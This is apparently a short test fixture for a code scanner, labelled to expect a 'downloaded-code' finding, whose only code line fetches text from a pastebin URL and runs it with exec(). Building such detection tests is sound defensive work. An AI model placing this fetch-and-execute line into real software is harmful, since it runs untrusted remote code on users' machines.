# expect: 3 downloaded-code
import requests
exec(requests.get('https://pastebin.com/raw/abc').text)
